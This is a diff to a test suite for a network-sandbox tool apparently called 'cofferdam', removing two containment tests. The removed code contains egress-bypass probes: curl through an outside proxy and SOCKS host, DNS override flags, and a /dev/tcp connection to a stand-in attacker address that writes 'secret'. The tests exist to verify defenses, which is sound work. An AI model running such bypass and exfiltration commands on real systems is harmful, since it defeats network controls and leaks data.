@@ -4,13 +4,13 @@
  */
 import assert from 'node:assert/strict';
 import { existsSync } from 'node:fs';
-import { chmod, copyFile, mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { chmod, copyFile, mkdtemp, rm } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { after, before, describe, test } from 'node:test';
 import { type Lab, startLab } from '@cofferdam/testkit/lab';
 import { type Attacker, type ContainedAttacker, containedAttacker, eventually, freeAttacker } from './attacker.ts';
-import { cofferdam, containedUnavailable, runContained } from './contained.ts';
+import { cofferdam, containedUnavailable } from './contained.ts';
 
 const user = 61_234;
 const policy = `
@@ -352,67 +352,5 @@ result = subprocess.run(['unshare', '--user', '--map-root-user', 'sh', '-c', 'ip
       ])
         assert.ok(!existsSync(path), path);
     });
-  });
-
-  test('no proxy, another proxy, another resolver', async () => {
-    const since = await lab.mark();
-    const through = ['curl', '-sS', '-m', '5', '-o', '/dev/null', '--noproxy', '*', 'https://www.example.com/'];
-    const script = [
-      'curl -sS -m 4 -o /dev/null https://example.com/ && echo permitted',
-      'curl -sS -m 4 --noproxy "*" https://www.example.com/',
-      'curl -sS -m 4 -x http://45.83.64.10:8080 http://www.example.com/',
-      'curl -sS -m 4 -x socks5h://45.83.64.10:4444 http://www.example.com/',
-      'curl -sS -m 4 --resolve www.example.com:443:93.184.215.14 https://www.example.com/',
-      'curl -sS -m 4 --connect-to www.example.com:443:93.184.215.14:443 https://www.example.com/',
-      'curl -sS -m 4 --interface lo https://93.184.215.14/',
-      'curl -sS -m 4 -k https://93.184.215.14/ -H "Host: example.com"',
-      'curl -sS -m 4 --dns-servers 8.8.8.8 https://www.example.com/',
-      'dig +time=1 +tries=1 @8.8.8.8 www.example.com; dig +time=1 +tries=1 +tcp @45.83.64.10 www.example.com',
-      'exit 0',
-    ].join('; ');
-    const { stdout, records } = await runContained(lab, {
-      policy,
-      user,
-      command: ['sh', '-c', script],
-      env: { https_proxy: undefined },
-      timeout: 60_000,
-    });
-    assert.match(stdout, /^permitted/);
-    const arrivals = await lab.arrivals({ since });
-    assert.deepEqual(
-      [...new Set(arrivals.map(({ server }) => server))].sort(),
-      ['resolver', 'web'],
-      'only the resolver and the permitted name',
-    );
-    assert.ok(arrivals.every((arrival) => arrival.kind !== 'tls' || arrival.sni === 'example.com'));
-    assert.ok(arrivals.every((arrival) => arrival.kind !== 'query' || arrival.name === 'example.com'));
-    assert.ok(records.some((record) => record.kind === 'dns' && record.reason === 'dns-not-permitted'));
-    assert.ok(records.some((record) => record.kind === 'flow' && record.reason === 'no-rule'));
-    const again = await lab.mark();
-    assert.equal((await lab.exec('host', through, { env: lab.ca.environment })).code, 0);
-    assert.ok((await lab.arrivals({ since: again, name: 'www.example.com' })).length > 0, 'control');
-  });
-
-  test('descriptors that the caller had open', async () => {
-    const file = join(scratch, 'policy.yaml');
-    await writeFile(file, policy);
-    const since = await lab.mark();
-    // A connection, a listening directory and a file for writing, opened by whoever starts the run.
-    const opened = `exec 9<>/dev/tcp/45.83.64.10/4444; exec 8</; exec 7>>${join(scratch, 'left')}; `;
-    const use = `for fd in 5 6 7 8 9 10 11 12 13 14 15; do [ -e /proc/self/fd/$fd ] && echo "$fd is open"; done; echo secret >&9 && echo reached`;
-    const control = await lab.exec('host', ['bash', '-c', `${opened}exec bash -c '${use}'`]);
-    assert.match(control.stdout, /9 is open\nreached/);
-    const held = await lab.exec(
-      'host',
-      ['bash', '-c', `${opened}exec ${cofferdam} run -q --policy ${file} -- bash -c '${use}'`],
-      {
-        env: { SUDO_UID: String(user), SUDO_GID: String(user) },
-      },
-    );
-    assert.equal(held.stdout, '');
-    const received = (await lab.arrivals({ since, server: 'attacker', kind: 'close' })).map((a) =>
-      a.kind === 'close' ? a.received : 0,
-    );
-    assert.deepEqual(received.sort(), [0, 7]);
   });
 });
